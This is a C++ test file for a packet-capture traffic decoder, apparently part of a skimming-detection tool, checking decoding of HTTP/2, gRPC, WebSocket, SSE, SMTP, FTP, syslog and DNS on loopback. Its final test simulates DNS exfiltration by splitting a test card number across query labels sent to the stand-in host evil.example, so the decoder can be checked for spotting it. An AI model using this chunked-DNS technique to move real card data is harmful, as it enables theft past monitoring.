// Programs that people use, over the loopback interface, captured and decoded: HTTP/2 as nghttp2's
// programs and curl speak it, gRPC, WebSockets and server-sent events, and what is older than
// those. Needs CAP_NET_RAW.

#include <arpa/inet.h>
#include <gmock/gmock.h>
#include <grpcpp/generic/async_generic_service.h>
#include <grpcpp/generic/generic_stub.h>
#include <grpcpp/grpcpp.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <memory>
#include <string>
#include <vector>

#include "absl/strings/str_cat.h"
#include "absl/synchronization/mutex.h"
#include "absl/time/clock.h"
#include "agent/traffic/protocol/traffic_decoder.h"
#include "agent/traffic/source/packet_capture.h"
#include "tests/agent/traffic/protocol/decoder_harness.h"

namespace skimwatch::traffic::testing {
namespace {

using ::testing::Contains;
using ::testing::HasSubstr;

// A port that nobody listens at, and that no connection is given as its own: one to it could
// otherwise meet itself.
uint16_t FreePort(int from = 21'000) {
  for (auto port = static_cast<uint16_t>(from); port < 30'000; ++port) {
    const int fd = socket(AF_INET, SOCK_STREAM, 0);
    const sockaddr_in address = {
        .sin_family = AF_INET, .sin_port = htons(port), .sin_addr = {htonl(INADDR_LOOPBACK)}};
    const bool is_free =
        bind(fd, reinterpret_cast<const sockaddr*>(&address), sizeof(address)) == 0;
    close(fd);
    if (is_free) return port;
  }
  std::abort();
}

bool Listens(uint16_t port) {
  const int fd = socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in address = {
      .sin_family = AF_INET, .sin_port = htons(port), .sin_addr = {htonl(INADDR_LOOPBACK)}};
  const bool ok = connect(fd, reinterpret_cast<sockaddr*>(&address), sizeof(address)) == 0;
  close(fd);
  return ok;
}

// Waits at most ten seconds.
template <typename Condition>
bool Await(Condition condition) {
  const absl::Time end = absl::Now() + absl::Seconds(10);
  while (!condition()) {
    if (absl::Now() > end) return false;
    absl::SleepFor(absl::Milliseconds(20));
  }
  return true;
}

// A program that runs until this is destroyed.
class Program {
 public:
  explicit Program(const std::vector<std::string>& words) : pid_(fork()) {
    if (pid_ != 0) return;
    std::vector<char*> arguments;
    for (const std::string& word : words) arguments.push_back(const_cast<char*>(word.c_str()));
    arguments.push_back(nullptr);
    execvp(arguments[0], arguments.data());
    _exit(127);
  }
  ~Program() {
    kill(pid_, SIGTERM);
    waitpid(pid_, nullptr, 0);
  }
  Program(const Program&) = delete;
  Program& operator=(const Program&) = delete;

 private:
  const pid_t pid_;
};

// Decodes what the loopback interface carries of one port.
class LoopbackCapture {
 public:
  explicit LoopbackCapture(uint16_t port) {
    PacketCapture::Options options;
    options.interface = "lo";
    options.filter = absl::StrCat("port ", port);
    auto capture = PacketCapture::Open(
        options, [this](uint32_t /*thread*/) { return std::make_unique<Handler>(*this); });
    if (!capture.ok()) {
      error_ = capture.status().ToString();
      return;
    }
    capture_ = *std::move(capture);
    capture_->Start();
  }

  const std::string& error() const { return error_; }

  // What has been seen when `text` is among it.
  std::vector<std::string> AwaitPart(const std::string& text) {
    const bool seen = Await([&] {
      for (const std::string& part : Parts()) {
        if (part.find(text) != std::string::npos) return true;
      }
      return false;
    });
    EXPECT_TRUE(seen) << text << " is not among "
                      << ::testing::PrintToString(Parts()).substr(0, 4000);
    return Parts();
  }
  std::vector<std::string> Parts() {
    absl::MutexLock lock(&mutex_);
    return harness_.sink.descriptions();
  }
  TrafficDecoder::Stats stats() {
    absl::MutexLock lock(&mutex_);
    return harness_.decoder.stats();
  }
  uint64_t covered(Reason reason) {
    absl::MutexLock lock(&mutex_);
    return harness_.covered(reason);
  }

 private:
  class Handler final : public PacketHandler {
   public:
    explicit Handler(LoopbackCapture& owner) : owner_(owner) {}
    void OnPacket(const PacketView& packet) override {
      absl::MutexLock lock(&owner_.mutex_);
      owner_.harness_.decoder.OnPacket(packet);
    }
    void OnIdle(absl::Time now) override {
      absl::MutexLock lock(&owner_.mutex_);
      owner_.harness_.decoder.OnIdle(now);
    }
    void Flush() override {
      absl::MutexLock lock(&owner_.mutex_);
      owner_.harness_.decoder.Flush();
    }

   private:
    LoopbackCapture& owner_;
  };

  absl::Mutex mutex_;
  DecoderHarness harness_ ABSL_GUARDED_BY(mutex_);
  std::string error_;
  std::unique_ptr<PacketCapture> capture_;
};

class RealTraffic : public ::testing::Test {
 protected:
  RealTraffic()
      : port_(FreePort()),
        folder_(std::filesystem::temp_directory_path() /
                absl::StrCat("skimwatch-real-", getpid())) {
    std::filesystem::create_directories(folder_);
    std::ofstream(folder_ / "page.html") << "<p>a page from nghttpd " << std::string(3000, '.');
    std::ofstream(folder_ / "upload.txt") << "card=4111 uploaded by a client";
  }
  ~RealTraffic() override { std::filesystem::remove_all(folder_); }

  std::unique_ptr<Program> StartServer() {
    auto server = std::make_unique<Program>(std::vector<std::string>{
        "nghttpd", "--no-tls", "-d", folder_.string(), std::to_string(port_)});
    EXPECT_TRUE(Await([this] { return Listens(port_); }));
    return server;
  }
  bool Run(const std::string& command) {
    return std::system(absl::StrCat(command, " >/dev/null 2>&1").c_str()) == 0;
  }
  // A server that a script is: listens at `port_`, its argument.
  std::unique_ptr<Program> StartScript(const std::string& name, const std::string& program,
                                       const std::string& text) {
    std::ofstream(folder_ / name) << text;
    auto server = std::make_unique<Program>(
        std::vector<std::string>{program, (folder_ / name).string(), std::to_string(port_)});
    EXPECT_TRUE(Await([this] { return Listens(port_); }));
    return server;
  }
  bool RunScript(const std::string& name, const std::string& program, const std::string& text) {
    std::ofstream(folder_ / name) << text;
    return Run(absl::StrCat("timeout 20 ", program, " ", (folder_ / name).string(), " ", port_));
  }
  std::string Url(const std::string& path) const {
    return absl::StrCat("http://127.0.0.1:", port_, path);
  }

  const uint16_t port_;
  const std::filesystem::path folder_;
};

TEST_F(RealTraffic, OfNghttp2IsReadInBothDirections) {
  LoopbackCapture capture(port_);
  ASSERT_EQ(capture.error(), "");
  const auto server = StartServer();
  ASSERT_TRUE(
      Run(absl::StrCat("nghttp -n -m 3 --padding=32 --continuation -H'x-note: from nghttp' ",
                       Url("/page.html?x=1"))));
  ASSERT_TRUE(Run(
      absl::StrCat("nghttp -n -d ", (folder_ / "upload.txt").string(), " ", Url("/page.html"))));
  const std::vector<std::string> parts = capture.AwaitPart("card=4111 uploaded by a client");
  EXPECT_THAT(parts, Contains(HasSubstr("request_target GET 127.0.0.1/page.html: /page.html?x=1")));
  EXPECT_THAT(parts, Contains(HasSubstr("x-note: from nghttp\r\n")));
  EXPECT_THAT(parts, Contains(HasSubstr("(text/html): <p>a page from nghttpd")));
  EXPECT_EQ(capture.stats().http_errors, 0U);
  EXPECT_EQ(capture.stats().raw_streams, 0U);
  EXPECT_EQ(capture.covered(Reason::kUndecodableHeaderCompression), 0U);
}

TEST_F(RealTraffic, OfCurlIsRead) {
  LoopbackCapture capture(port_);
  ASSERT_EQ(capture.error(), "");
  const auto server = StartServer();
  ASSERT_TRUE(Run(absl::StrCat("curl -s --http2-prior-knowledge -H 'x-card: 4111' --data 'n=curl' ",
                               Url("/page.html"))));
  const std::vector<std::string> parts = capture.AwaitPart(": n=curl");
  EXPECT_THAT(parts, Contains(HasSubstr("x-card: 4111\r\n")));
  EXPECT_EQ(capture.stats().http_errors, 0U);
}

TEST_F(RealTraffic, OfGrpcIsReadMessageByMessage) {
  LoopbackCapture capture(port_);
  ASSERT_EQ(capture.error(), "");
  grpc::ServerBuilder builder;
  builder.AddListeningPort(absl::StrCat("127.0.0.1:", port_), grpc::InsecureServerCredentials());
  // Knows no method, and reads what it is sent.
  grpc::CallbackGenericService service;
  builder.RegisterCallbackGenericService(&service);
  const std::unique_ptr<grpc::Server> server = builder.BuildAndStart();
  ASSERT_NE(server, nullptr);
  const auto channel =
      grpc::CreateChannel(absl::StrCat("127.0.0.1:", port_), grpc::InsecureChannelCredentials());
  grpc::GenericStub stub(channel);
  for (const auto algorithm : {GRPC_COMPRESS_NONE, GRPC_COMPRESS_GZIP}) {
    grpc::ClientContext context;
    context.set_compression_algorithm(algorithm);
    context.AddMetadata("x-note", "from grpc");
    grpc::CompletionQueue queue;
    const grpc::Slice slice(
        absl::StrCat("card number 4111, compressed by ", algorithm, " ", std::string(500, 'z')));
    const grpc::ByteBuffer request(&slice, 1);
    const auto call = stub.PrepareUnaryCall(&context, "/pay.Service/Charge", request, &queue);
    call->StartCall();
    grpc::ByteBuffer response;
    grpc::Status status;
    call->Finish(&response, &status, nullptr);
    void* tag = nullptr;
    bool ok = false;
    ASSERT_TRUE(queue.Next(&tag, &ok));
    EXPECT_EQ(status.error_code(), grpc::StatusCode::UNIMPLEMENTED);
  }
  capture.AwaitPart(absl::StrCat("compressed by ", GRPC_COMPRESS_NONE));
  const std::vector<std::string> parts =
      capture.AwaitPart(absl::StrCat("compressed by ", GRPC_COMPRESS_GZIP));
  EXPECT_THAT(parts, Contains(HasSubstr("request_target POST 127.0.0.1/pay.Service/Charge")));
  EXPECT_THAT(parts, Contains(HasSubstr("x-note: from grpc\r\n")));
  EXPECT_EQ(capture.stats().http_errors, 0U);
  server->Shutdown();
}

TEST_F(RealTraffic, OfAnUpgradeToHttp2IsRead) {
  const uint16_t backend = FreePort(port_ + 1);
  const Program server({"nghttpd", "--no-tls", "-d", folder_.string(), std::to_string(backend)});
  const Program proxy({"nghttpx", "--conf=/dev/null", "--workers=1", "--single-process",
                       "--errorlog-file=/dev/null", absl::StrCat("-f127.0.0.1,", port_, ";no-tls"),
                       absl::StrCat("-b127.0.0.1,", backend, ";;proto=h2")});
  ASSERT_TRUE(Await([&] { return Listens(backend) && Listens(port_); }));
  LoopbackCapture capture(port_);
  ASSERT_EQ(capture.error(), "");
  ASSERT_TRUE(Run(absl::StrCat("nghttp -u -n ", Url("/page.html?from=nghttp"))));
  ASSERT_TRUE(Run(absl::StrCat("curl -s --http2 -H 'x-card: 4111' ", Url("/page.html?from=curl"))));
  const std::vector<std::string> parts = capture.AwaitPart("/page.html?from=curl");
  EXPECT_THAT(parts, Contains(HasSubstr(": /page.html?from=nghttp")));
  EXPECT_THAT(parts, Contains(HasSubstr("x-card: 4111\r\n")));
  // Of both, the answer in HTTP/2.
  const auto pages = [&] {
    const std::vector<std::string> now = capture.Parts();
    return std::count_if(now.begin(), now.end(), [](const std::string& part) {
      return part.find("GET 127.0.0.1/page.html (text/html): <p>a page from nghttpd") !=
             std::string::npos;
    });
  };
  EXPECT_TRUE(Await([&] { return pages() == 2; })) << pages();
  EXPECT_EQ(capture.stats().http_errors, 0U);
  EXPECT_EQ(capture.stats().raw_streams, 0U);
}

TEST_F(RealTraffic, OfWebSocketsIsReadWithTheirCompression) {
  // Debian's node-ws, at both ends; each message is compressed, over the ones before it.
  const std::unique_ptr<Program> server = StartScript("server.js", "node", R"(
const { WebSocketServer } = require('/usr/share/nodejs/ws');
new WebSocketServer({ host: '127.0.0.1', port: +process.argv[2],
                      perMessageDeflate: { threshold: 0 } })
  .on('connection', socket => socket.on('message', text => socket.send(`taken: ${text}`)));
)");
  LoopbackCapture capture(port_);
  ASSERT_EQ(capture.error(), "");
  ASSERT_TRUE(RunScript("client.js", "node", R"(
const { WebSocket } = require('/usr/share/nodejs/ws');
const socket = new WebSocket(`ws://127.0.0.1:${process.argv[2]}/live`,
                             { perMessageDeflate: { threshold: 0 } });
let answers = 0;
socket.on('open', () => {
  if (socket.extensions !== 'permessage-deflate') process.exit(1);
  for (const card of [4111, 4222]) socket.send(JSON.stringify({ type: 'payment', card }));
});
socket.on('message', () => { if (++answers === 2) socket.close(); });
)"));
  const std::vector<std::string> parts =
      capture.AwaitPart(R"(taken: {"type":"payment","card":4222})");
  EXPECT_THAT(parts, Contains(HasSubstr(R"(/live: {"type":"payment","card":4111})")));
  EXPECT_THAT(parts, Contains(HasSubstr(R"(/live: {"type":"payment","card":4222})")));
  EXPECT_EQ(capture.stats().raw_streams, 0U);
}

TEST_F(RealTraffic, OfServerSentEventsIsReadEventByEvent) {
  const std::unique_ptr<Program> server = StartScript("server.py", "python3", R"(
import http.server, sys, time
class Handler(http.server.BaseHTTPRequestHandler):
  protocol_version = 'HTTP/1.1'
  def do_GET(self):
    self.send_response(200)
    self.send_header('Content-Type', 'text/event-stream')
    self.send_header('Connection', 'close')
    self.end_headers()
    for card in ('4111', '4222'):
      self.wfile.write(f'event: paid\ndata: card={card}\n\n'.encode())
      self.wfile.flush()
    # It goes on; whoever listens has enough.
    try:
      while True: self.wfile.write(b': still here\n'); time.sleep(0.01)
    except OSError: pass
    self.close_connection = True
http.server.ThreadingHTTPServer(('127.0.0.1', int(sys.argv[1])), Handler).serve_forever()
)");
  LoopbackCapture capture(port_);
  ASSERT_EQ(capture.error(), "");
  const Program client({"curl", "-sN", "-o", "/dev/null", "--max-time", "20", Url("/events")});
  const std::vector<std::string> parts = capture.AwaitPart("data: card=4222");
  EXPECT_THAT(parts, Contains(HasSubstr("response_body GET 127.0.0.1/events")));
  // An event is over when it ends, not when the response does.
  EXPECT_EQ(std::count_if(parts.begin(), parts.end(),
                          [](const std::string& part) {
                            return part.find("data: card=4") != std::string::npos;
                          }),
            2)
      << ::testing::PrintToString(parts);
}

TEST_F(RealTraffic, OfSmtpIsReadAsCommandsAndMails) {
  const std::unique_ptr<Program> server = StartScript("server.py", "python3", R"(
import asyncore, smtpd, sys
smtpd.DebuggingServer(('127.0.0.1', int(sys.argv[1])), None)
asyncore.loop()
)");
  LoopbackCapture capture(port_);
  ASSERT_EQ(capture.error(), "");
  std::ofstream(folder_ / "mail.txt")
      << "Subject: order\r\n\r\ncard=4111\r\n..two dots\r\n.\r\nafter a dot\r\n";
  ASSERT_TRUE(Run(absl::StrCat("curl -s smtp://127.0.0.1:", port_,
                               "/shop.example --mail-from note-4222@shop.example --mail-rcpt "
                               "orders@shop.example -T ",
                               (folder_ / "mail.txt").string())));
  const std::vector<std::string> parts = capture.AwaitPart("card=4111");
  EXPECT_THAT(parts, Contains(HasSubstr("MAIL FROM:<note-4222@shop.example>")));
  EXPECT_THAT(parts, Contains(HasSubstr("(message/rfc822): Subject: order\r\n\r\ncard=4111\r\n"
                                        "..two dots\r\n.\r\nafter a dot\r\n")));
  EXPECT_EQ(capture.stats().raw_streams, 0U);
}

TEST_F(RealTraffic, OfFtpIsReadAsCommandsAndReplies) {
  // Before the server, which greets whoever tries whether it is there.
  LoopbackCapture capture(port_);
  ASSERT_EQ(capture.error(), "");
  const std::unique_ptr<Program> server = StartScript("server.py", "python3", R"(
import socket, sys
listener = socket.create_server(('127.0.0.1', int(sys.argv[1])))
def serve(control):
  def say(line): control.sendall(line.encode() + b'\r\n')
  data = socket.create_server(('127.0.0.1', 0))
  say('220 FTP server ready')
  for line in control.makefile('r', newline='\r\n'):
    command = line.split()[0].upper()
    if command == 'RETR':
      say('150 here it comes')
      channel = data.accept()[0]
      channel.sendall(b'a file')
      channel.close()
      say('226 done')
    elif command == 'QUIT': return say('221 bye')
    elif command == 'EPSV': say(f'229 entering (|||{data.getsockname()[1]}|)')
    else: say({'USER': '331 password?', 'PASS': '230 welcome', 'PWD': '257 "/"',
               'TYPE': '200 binary', 'SIZE': '213 6'}.get(command, '202 ignored: ' + line.strip()))
while True:
  connection = listener.accept()[0]
  with connection:
    try: serve(connection)
    except OSError: pass
)");
  ASSERT_TRUE(Run(absl::StrCat(
      "curl -s -u shopper-4111:secret -Q 'SITE NOTE card 4222' ftp://127.0.0.1:", port_, "/file")));
  const std::vector<std::string> parts = capture.AwaitPart("202 ignored: SITE NOTE card 4222");
  EXPECT_THAT(parts, Contains(HasSubstr("USER shopper-4111")));
  EXPECT_THAT(parts, Contains(HasSubstr("SITE NOTE card 4222")));
  EXPECT_EQ(capture.stats().raw_streams, 0U);
}

TEST_F(RealTraffic, OfSyslogIsReadByUdpAndTcp) {
  const std::unique_ptr<Program> server = StartScript("server.py", "python3", R"(
import socketserver, sys
class Handler(socketserver.StreamRequestHandler):
  def handle(self): self.rfile.read()
socketserver.ThreadingTCPServer(('127.0.0.1', int(sys.argv[1])), Handler).serve_forever()
)");
  LoopbackCapture capture(port_);
  ASSERT_EQ(capture.error(), "");
  const std::string to = absl::StrCat("logger -n 127.0.0.1 -P ", port_, " -t shop ");
  for (const std::string how :
       {"-d --rfc3164", "-d --rfc5424", "-T --rfc3164", "-T --rfc5424 --octet-count"}) {
    ASSERT_TRUE(Run(absl::StrCat(to, how, " 'card=4111 by ", how, "'"))) << how;
    const std::vector<std::string> parts = capture.AwaitPart("card=4111 by " + how);
    EXPECT_THAT(parts, Contains(::testing::AllOf(HasSubstr("message"), HasSubstr("by " + how))))
        << how;
  }
  EXPECT_EQ(capture.stats().raw_streams, 0U);
}

// A resolver library (c-ares, of Node.js) asks a server that says what it was asked, over UDP and,
// where that cuts the answer, over TCP.
TEST_F(RealTraffic, OfDnsIsReadAndWhatIsSpreadOverManyQueriesIsJoined) {
  const std::unique_ptr<Program> server = StartScript("server.py", "python3", R"(
import socket, struct, sys, threading
port = int(sys.argv[1])
def answer(query, over_tcp):
  end = query.index(b'\0', 12)
  kind = struct.unpack('>H', query[end + 1:end + 3])[0]
  question = query[12:end + 5]
  cut = kind == 16 and not over_tcp
  text = b'a note: card=4222'
  data = bytes([len(text)]) + text if kind == 16 else bytes([192, 0, 2, 1])
  record = b'' if cut else b'\xc0\x0c' + struct.pack('>HHIH', kind, 1, 60, len(data)) + data
  flags = 0x8180 | (0x0200 if cut else 0)
  return query[:2] + struct.pack('>HHHHH', flags, 1, 0 if cut else 1, 0, 0) + question + record
def tcp():
  listener = socket.create_server(('127.0.0.1', port))
  while True:
    connection = listener.accept()[0]
    with connection:
      while True:
        size = connection.recv(2)
        if len(size) < 2: break
        reply = answer(connection.recv(struct.unpack('>H', size)[0]), True)
        connection.sendall(struct.pack('>H', len(reply)) + reply)
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.bind(('127.0.0.1', port))
threading.Thread(target=tcp, daemon=True).start()
while True:
  query, sender = udp.recvfrom(4096)
  udp.sendto(answer(query, False), sender)
)");
  LoopbackCapture capture(port_);
  ASSERT_EQ(capture.error(), "");
  ASSERT_TRUE(RunScript("client.js", "node", R"(
const resolver = new (require('dns').promises.Resolver)();
resolver.setServers([`127.0.0.1:${process.argv[2]}`]);
(async () => {
  const text = '4111111111111111';
  for (let i = 0; i < 8; ++i) {
    await resolver.resolve4(`n${i}.${text.slice(2 * i, 2 * i + 2)}.evil.example`);
    await resolver.resolve4('www.shop.example');
  }
  const records = await resolver.resolveTxt('note.evil.example');
  process.exit(records[0][0] === 'a note: card=4222' ? 0 : 1);
})();
)"));
  capture.AwaitPart("a note: card=4222");
  // The session's counter is in each name, and the longest label is what is sent.
  const std::vector<std::string> parts = capture.Parts();
  EXPECT_THAT(parts, Contains(HasSubstr("n041n111n211n311n411n511n611n711")))
      << ::testing::PrintToString(parts).substr(0, 4000);
  EXPECT_THAT(parts, Contains(HasSubstr("evil.example")));
  EXPECT_EQ(capture.stats().raw_streams, 0U);
}

}  // namespace
}  // namespace skimwatch::traffic::testing
